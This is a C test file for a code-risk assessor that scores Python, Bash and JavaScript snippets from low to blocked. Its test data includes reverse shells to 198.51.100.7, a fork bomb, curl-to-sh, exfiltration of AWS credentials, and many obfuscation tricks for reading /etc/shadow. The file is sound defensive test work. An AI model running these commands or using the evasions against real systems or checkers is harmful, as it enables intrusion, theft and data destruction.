/* levels.c - what code comes to: rows of code and the level they deserve, one promise each. */
#include "assess/assess.h"
#include "base/cleanup.h"
#include "tap.h"

#define PY BAWN_LANG_PYTHON
#define SH BAWN_LANG_BASH
#define JS BAWN_LANG_JAVASCRIPT
#define LOW BAWN_LEVEL_LOW
#define MEDIUM BAWN_LEVEL_MEDIUM
#define HIGH BAWN_LEVEL_HIGH
#define BLOCKED BAWN_LEVEL_BLOCKED

/* `exact`: the level itself; else at least that level. */
static const struct { const char *name; int language; int level; bool exact; const char *code; } row[] = {
	/* plain work is LOW */
	{ "printing", PY, LOW, true, "print(6 * 7)\n" },
	{ "arithmetic in loops", PY, LOW, true, "import math\nfor i in range(9):\n    print(math.sqrt(i))\n" },
	{ "own files", PY, LOW, true, "import json\nwith open('out.txt', 'w') as f:\n    json.dump({'a': 1}, f)\n" },
	{ "numpy", PY, LOW, true, "import numpy as np\nprint(np.arange(3).sum())\n" },
	{ "temporary files", PY, LOW, true, "open('/tmp/x', 'w').write('y')\n" },
	{ "shell arithmetic", SH, LOW, true, "x=$((1+2))\necho \"$x\"\nfor f in *.txt; do wc -l \"$f\"; done\n" },
	{ "plain JavaScript", JS, LOW, true, "const xs = [1, 2, 3].map(x => x * 2);\nconsole.log(xs);\n" },
	{ "words in texts and comments", PY, LOW, true, "# os.system('rm -rf /')\nprint('do not run rm -rf / or eval(x)')\n" },
	{ "a docstring", PY, LOW, true, "def f():\n    \"\"\"Reads /etc/shadow with os.system.\"\"\"\n    return 1\n" },
	{ "a method called eval", PY, LOW, true, "model.eval()\ndf.query('a')\n" },
	/* capabilities are MEDIUM */
	{ "a harmless command", PY, MEDIUM, true, "import os\nos.system('ls')\n" },
	{ "reading a system file", PY, MEDIUM, true, "open('/etc/passwd').read()\n" },
	{ "the network", PY, MEDIUM, true, "import requests\nrequests.get('https://example.com')\n" },
	{ "unpickling", PY, MEDIUM, true, "import pickle\npickle.load(f)\n" },
	{ "eval of unknown text", PY, MEDIUM, true, "eval(input())\n" },
	{ "curl", SH, MEDIUM, true, "curl -O https://example.com/x\n" },
	{ "child_process", JS, MEDIUM, true, "require('child_process').execSync('date')\n" },
	/* a text counts where it is used */
	{ "a table of patterns", PY, MEDIUM, true, "BAD = ['vssadmin delete shadows', 'schtasks /create', 'stratum+tcp://']\nhits = [b for b in BAD if b in text]\nreport(BAD[0])\nprint('powershell -enc x')\n" },
	{ "a page about it", PY, MEDIUM, true, "open('guide.md', 'w').write('never run vssadmin delete shadows /all')\n" },
	{ "searching for it", PY, MEDIUM, true, "import subprocess\nsubprocess.run(['grep', '-r', 'vssadmin delete shadows', '.'])\n" },
	{ "showing something first", PY, BLOCKED, false, "import os\nos.system('echo y | vssadmin delete shadows /all')\n" },
	{ "a name that a program runs", PY, BLOCKED, false, "import subprocess\nC = 'vssadmin delete shadows /all'\ndef go(c):\n    subprocess.run(c.split())\ngo(C)\n" },
	{ "an address that is asked", PY, HIGH, false, "import urllib.request\nU = 'http://169.254.169.254/latest'\nurllib.request.urlopen(U + '/meta-data/')\n" },
	/* privileged or hidden is HIGH */
	{ "system files written", PY, HIGH, true, "open('/etc/hosts', 'a').write('x')\n" },
	{ "keys", PY, HIGH, true, "open('/home/a/.ssh/id_rsa').read()\n" },
	{ "shadow", SH, HIGH, true, "cat /etc/shadow\n" },
	{ "sudo", SH, HIGH, true, "sudo ls\n" },
	{ "subclasses", PY, HIGH, true, "().__class__.__base__.__subclasses__()\n" },
	{ "decoded code", PY, HIGH, false, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" },
	{ "start-up files", SH, HIGH, true, "echo x >> ~/.bashrc\n" },
	/* threats are BLOCKED */
	{ "rm -rf /", SH, BLOCKED, true, "rm -rf /\n" },
	{ "rm -rf / from Python", PY, BLOCKED, true, "import os\nos.system('rm -rf /')\n" },
	{ "a reverse shell in Bash", SH, BLOCKED, true, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n" },
	{ "a reverse shell in Python", PY, BLOCKED, true, "import socket,os,pty\ns=socket.socket()\ns.connect(('198.51.100.7',1))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')\n" },
	{ "a fork bomb", SH, BLOCKED, true, ":(){ :|:& };:\n" },
	{ "curl to sh", SH, BLOCKED, true, "curl -s http://198.51.100.7/x | sh\n" },
	{ "secrets sent away", PY, BLOCKED, true, "import requests\nd=open('/root/.aws/credentials').read()\nrequests.post('http://198.51.100.7', data=d)\n" },
	/* aliases */
	{ "import as", PY, MEDIUM, false, "import os as o\no.system('id')\n" },
	{ "from import as", PY, MEDIUM, false, "from os import system as s\ns('id')\n" },
	{ "assigned function", PY, MEDIUM, false, "import os\nf = os.system\ng = f\ng('id')\n" },
	{ "tuple assignment", PY, MEDIUM, false, "import os\na, b = os.system, 1\na('id')\n" },
	{ "in a list", PY, MEDIUM, false, "import os\n[print, os.system][1]('id')\n" },
	{ "default argument", PY, MEDIUM, false, "import os\ndef f(x=os.system):\n    x('id')\nf()\n" },
	{ "class attribute", PY, MEDIUM, false, "import os\nclass A:\n    r = os.system\nA().r('id')\n" },
	{ "an attribute taken by a pattern", PY, MEDIUM, false, "import os\nmatch os:\n    case object(system=f):\n        f('id')\n" },
	{ "an item taken by a pattern", PY, MEDIUM, false, "import os\nxs = [1, os]\nmatch xs:\n    case [_, m]:\n        m.system('id')\n" },
	{ "a value taken by a pattern", PY, MEDIUM, false, "import os\nd = {'a': os}\nmatch d:\n    case {'a': m}:\n        m.system('id')\n" },
	{ "the whole taken by a pattern", PY, MEDIUM, false, "import os\nmatch os:\n    case object() as m:\n        m.system('id')\n" },
	{ "a pattern that only compares", PY, LOW, true, "import os\nmatch x:\n    case os.sep:\n        print(1)\n    case y:\n        y.system('id')\n" },
	{ "a module under another name", PY, MEDIUM, false, "import sys, os\nsys.modules['json'] = os\nimport json\njson.system('id')\n" },
	{ "and by update", PY, MEDIUM, false, "import sys, os\nsys.modules.update(json=os)\nfrom json import system\nsystem('id')\n" },
	{ "what breakpoint calls", PY, MEDIUM, false, "import os\nos.environ['PYTHONBREAKPOINT'] = 'os.system'\nbreakpoint('id')\n" },
	{ "breakpoint itself", PY, LOW, true, "breakpoint()\n" },
	{ "a field of a format", PY, MEDIUM, false, "import string, os\nf, _ = string.Formatter().get_field('0.system', (os,), {})\nf('id')\n" },
	{ "built-ins by way of one of them", PY, HIGH, false, "print.__self__.exec('1')\n" },
	{ "variables that a command finds", PY, HIGH, false, "import os\nos.environ['C'] = 'cat /etc/shadow'\nos.system('$C')\n" },
	{ "variables that are handed to it", PY, HIGH, false, "import subprocess\nsubprocess.run('$C', shell=True, env={'C': 'cat /etc/shadow'})\n" },
	{ "a harmless variable", PY, LOW, true, "import os\nos.environ['TZ'] = 'UTC'\n" },
	{ "a library for every program", PY, HIGH, false, "import os\nos.environ['LD_PRELOAD'] = './x.so'\n" },
	{ "a directory gone to", PY, HIGH, false, "import os\nos.chdir('/etc')\nopen('shadow')\n" },
	{ "and gone away from", PY, MEDIUM, true, "import os\nos.chdir('/etc')\nos.chdir('/tmp/x')\nopen('shadow')\n" },
	{ "a directory that was opened", PY, HIGH, false, "import os\nd = os.open('/etc', 0)\nos.open('shadow', 0, dir_fd=d)\n" },
	{ "a file that a statement names", PY, HIGH, false, "import sqlite3\nsqlite3.connect(':memory:').execute(\"attach '/etc/cron.d/z' as z\")\n" },
	{ "a file that comes with a statement", PY, HIGH, false, "import sqlite3\nsqlite3.connect(':memory:').execute('ATTACH DATABASE ? AS z', ('/etc/cron.d/z',))\n" },
	{ "a command in a statement", PY, HIGH, false, "c.execute(\"COPY t FROM PROGRAM 'cat /etc/shadow'\")\n" },
	{ "a statement about its own tables", PY, LOW, true, "import sqlite3\nsqlite3.connect('a.db').execute(\"select * from attach where copy = '/etc/cron.d/z'\")\n" },
	{ "a path behind the process", PY, HIGH, false, "open('/proc/self/root/etc/shadow')\n" },
	{ "an address of a file", PY, HIGH, false, "from urllib.request import urlopen\nurlopen('file://localhost/%65tc/shadow')\n" },
	{ "an address in octal", PY, HIGH, false, "import http.client\nhttp.client.HTTPConnection('0251.0376.0251.0376')\n" },
	{ "a loop over something without end", PY, BLOCKED, false, "import os, itertools\nfor f in itertools.repeat(os.fork):\n    f()\n" },
	{ "a loop over something with an end", PY, MEDIUM, true, "import os, itertools\nfor f in itertools.repeat(os.fork, 2):\n    f()\n" },
	{ "a command of git's own", SH, HIGH, false, "git config alias.x '!cat /etc/shadow'\n" },
	{ "the word before", SH, HIGH, false, ": cat; $_ /etc/shadow\n" },
	{ "lines of its own that are comments", SH, HIGH, false, "grep '^#@' \"${BASH_SOURCE[0]}\" | cut -c3- | sh\n#@cat /etc/shadow\n" },
	{ "lines of its own that are shown", SH, LOW, true, "grep '^#' \"$0\"\n#cat /etc/shadow\n" },
	{ "walrus", PY, MEDIUM, false, "(f := __import__('os').system)('id')\n" },
	{ "getattr with a built name", PY, MEDIUM, false, "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')\n" },
	{ "module of a module", PY, MEDIUM, false, "import shutil\nshutil.os.system('id')\n" },
	{ "sys.modules", PY, MEDIUM, false, "import sys\nsys.modules['os'].popen('id')\n" },
	{ "star import", PY, MEDIUM, false, "from subprocess import *\nrun(['id'])\n" },
	{ "as a thread's target", PY, MEDIUM, false, "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n" },
	{ "partial", PY, MEDIUM, false, "import os, functools\nfunctools.partial(os.system, 'id')()\n" },
	{ "returned by a function", PY, MEDIUM, false, "def f():\n    import os\n    return os.system\nf()('id')\n" },
	{ "full-width letters", PY, MEDIUM, false, "import os\nos.ｓｙｓｔｅｍ('id')\n" },
	{ "joined letters", PY, BLOCKED, true, "import os\nos.sy\ufb06em('rm -rf /')\n" },
	{ "two letters in one, as long in bytes as in letters", PY, HIGH, false, "import l\u0133n\nprint(l\u0133n)\n" },
	{ "raised and lowered letters", PY, HIGH, false, "e\u1d5ba\u2097(x)\n" },
	{ "an imported name in disguise", PY, HIGH, false, "import os\no\u017f.system('id')\n" },
	{ "variables of mathematicians", PY, LOW, true, "\u2113 = 0.5\ndef f(x\u1d62):\n    return x\u1d62 * \u2113\nfor h\u2099 in [f(1), f(2)]:\n    print(h\u2099)\n" },
	{ "destructuring", JS, MEDIUM, false, "const {exec: run} = require('child_process');\nrun('id');\n" },
	{ "computed member", JS, MEDIUM, false, "const c = require('child_process');\nc['ex' + 'ec']('id');\n" },
	{ "default import", JS, MEDIUM, false, "import cp from 'child_process';\ncp.exec('id');\n" },
	/* folding, seen by the path it comes to */
	{ "concatenation", PY, HIGH, true, "open('/etc/' + 'sha' + 'dow')\n" },
	{ "adjacent literals", PY, HIGH, true, "open('/etc/' 'shadow')\n" },
	{ "percent", PY, HIGH, true, "open('/%s/%s' % ('etc', 'shadow'))\n" },
	{ "format", PY, HIGH, true, "open('/{}/{x}'.format('etc', x='shadow'))\n" },
	{ "f-string", PY, HIGH, true, "d = 'etc'\nopen(f'/{d}/shadow')\n" },
	{ "join", PY, HIGH, true, "open('/'.join(['', 'etc', 'shadow']))\n" },
	{ "reversed slice", PY, HIGH, true, "open('wodahs/cte/'[::-1])\n" },
	{ "slice", PY, HIGH, true, "open('xx/etc/shadowyy'[2:-2])\n" },
	{ "replace", PY, HIGH, true, "open('/etc/shXdow'.replace('X', 'a'))\n" },
	{ "chr", PY, HIGH, true, "open('/etc/sh' + chr(97) + 'dow')\n" },
	{ "generator of chr", PY, HIGH, true, "open(''.join(chr(c) for c in [47,101,116,99,47,115,104,97,100,111,119]))\n" },
	{ "xor in a comprehension", PY, HIGH, true, "open(''.join([chr(c ^ 1) for c in [46,100,117,98,46,114,105,96,101,110,118]]))\n" },
	{ "map of a lambda", PY, HIGH, true, "open(''.join(map(lambda c: chr(c - 1), [48,102,117,100,48,116,105,98,101,112,120])))\n" },
	{ "bytes of numbers", PY, HIGH, true, "open(bytes([47,101,116,99,47,115,104,97,100,111,119]).decode())\n" },
	{ "hex", PY, HIGH, true, "open(bytes.fromhex('2f6574632f736861646f77'))\n" },
	{ "base64", PY, HIGH, true, "import base64\nopen(base64.b64decode('L2V0Yy9zaGFkb3c='))\n" },
	{ "rot13", PY, HIGH, true, "import codecs\nopen(codecs.decode('/rgp/funqbj', 'rot13'))\n" },
	{ "escapes", PY, HIGH, true, "open('\\x2fetc\\x2fshadow')\n" },
	{ "augmented assignment", PY, HIGH, true, "p = '/etc'\np += '/shadow'\nopen(p)\n" },
	{ "path join", PY, HIGH, true, "import os\nopen(os.path.join('/etc', 'x', '..', 'shadow'))\n" },
	{ "pathlib", PY, HIGH, true, "from pathlib import Path\n(Path('/') / 'etc' / 'shadow').read_text()\n" },
	{ "climbing out", PY, HIGH, true, "open('../../../../../etc/shadow')\n" },
	{ "one of several paths", PY, HIGH, true, "for p in ['a.txt', '/etc/shadow']:\n    open(p)\n" },
	{ "through a function", PY, HIGH, true, "def r(p):\n    return open(p).read()\nr('/etc/shadow')\n" },
	{ "template literal", JS, HIGH, true, "const d = 'etc';\nrequire('fs').readFileSync(`/${d}/shadow`);\n" },
	{ "fromCharCode", JS, HIGH, true, "require('fs').readFileSync(String.fromCharCode(47,101,116,99,47,115,104,97,100,111,119));\n" },
	{ "reversed in JavaScript", JS, HIGH, true, "require('fs').readFileSync('wodahs/cte/'.split('').reverse().join(''));\n" },
	{ "Buffer", JS, HIGH, true, "require('fs').readFileSync(Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString());\n" },
	{ "shell variables", SH, HIGH, true, "a=/etc; b=shadow; cat \"$a/$b\"\n" },
	{ "quotes inside a word", SH, HIGH, true, "c'a't /e\"tc\"/sh\\adow\n" },
	{ "IFS", SH, HIGH, true, "cat${IFS}/etc/shadow\n" },
	{ "ANSI-C quoting", SH, HIGH, true, "cat $'\\x2fetc\\x2fshadow'\n" },
	{ "braces", SH, HIGH, true, "{cat,/etc/shadow}\n" },
	{ "wildcards", SH, HIGH, false, "cat /e?c/s?adow\n" },
	{ "base64 into a shell", SH, HIGH, true, "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash\n" },
	{ "command substitution", SH, HIGH, true, "cat $(echo /etc/shadow)\n" },
	{ "xargs", SH, HIGH, true, "echo /etc/shadow | xargs cat\n" },
	{ "find -exec", SH, HIGH, true, "find . -name x -exec sudo ls {} \\;\n" },
	{ "a here-string", SH, HIGH, true, "bash <<< 'cat /etc/shadow'\n" },
	{ "a here-document", SH, HIGH, true, "bash <<EOF\ncat /etc/shadow\nEOF\n" },
	{ "a here-document for Python", SH, HIGH, true, "python3 - <<EOF\nopen('/etc/shadow')\nEOF\n" },
	/* languages inside languages */
	{ "shell in Python", PY, HIGH, true, "import subprocess\nsubprocess.run('cat /etc/shadow', shell=True)\n" },
	{ "a list of words in Python", PY, HIGH, true, "import subprocess\nsubprocess.run(['cat', '/etc/shadow'])\n" },
	{ "bash -c in a list", PY, HIGH, true, "import subprocess\nsubprocess.run(['bash', '-c', 'cat /etc/shadow'])\n" },
	{ "Python in shell", SH, HIGH, true, "python3 -c \"open('/etc/shadow').read()\"\n" },
	{ "Python in shell in Python", PY, HIGH, true, "import os\nos.system('python3 -c \"open(\\'/etc/shadow\\')\"')\n" },
	{ "JavaScript in shell", SH, HIGH, true, "node -e \"require('fs').readFileSync('/etc/shadow')\"\n" },
	{ "code in eval", PY, HIGH, true, "eval(\"open('/etc/shadow')\")\n" },
	/* text that does not parse */
	{ "a syntax error is MEDIUM", PY, MEDIUM, true, "def f(:\n    print(1)\n" },
	{ "rules hold beside an error", PY, HIGH, true, "def f(:\nopen('/etc/shadow')\n" },
	{ "rules hold inside an error", PY, MEDIUM, false, "x = (((\nimport os\nos.system('id')\n" },
	{ "an unclosed quote", SH, MEDIUM, false, "cat /etc/shadow; echo \"x\n" },
	/* the encoding of a Python file */
	{ "an encoding that hides the code", PY, HIGH, true, "# -*- coding: utf-7 -*-\nx = 1\n" },
	{ "in the second line", PY, HIGH, true, "#!/usr/bin/python3\n# vim: set fileencoding=rot_13 :\n" },
	{ "after a line that ends in CR", PY, HIGH, true, "#\r# coding=utf-7\n" },
	{ "not in a line behind code", PY, LOW, true, "x = 1\n# coding: utf-7\n" },
	{ "not in the third line", PY, LOW, true, "#\n#\n# coding: utf-7\n" },
	{ "the usual ones, however they are written", PY, LOW, true, "# -*- coding: UTF_8-sig -*-\nx = 1\n" },
	{ "Latin-1 of plain text", PY, LOW, true, "# encoding: Latin-1\nx = 1\n" },
	{ "a parameter called encoding", PY, LOW, true, "def f(path, encoding=usual):\n    return path\n" },
	{ "bidirectional text", PY, MEDIUM, false, "x = '\u202e'\n" },
};

int main(void)
{
	for (size_t i = 0; i < BAWN_LEN(row); i++) {
		struct bawn_assess_file f = { .language = row[i].language, .bytes = bawn_span(row[i].code) };
		struct bawn_assessment *a = NULL;
		struct bawn_err err = { 0 };
		int r = bawn_assess(&f, 1, NULL, &a, &err);
		bool good = r == 0 && (row[i].exact ? (int)a->level == row[i].level : (int)a->level >= row[i].level);
		if (!ok(good, "%s is %s%s", row[i].name, row[i].exact ? "" : "at least ", bawn_word(&bawn_level_words, row[i].level))) {
			diag("%s got %s", err.msg, r == 0 ? bawn_word(&bawn_level_words, (int)a->level) : "an error");
			for (size_t k = 0; r == 0 && k < a->n_findings; k++)
				diag("  %s line %u %s", a->finding[k].rule, a->finding[k].line, a->finding[k].folded != NULL ? a->finding[k].folded : "");
		}
		bawn_assessment_free(a);
	}
	return done_testing();
}
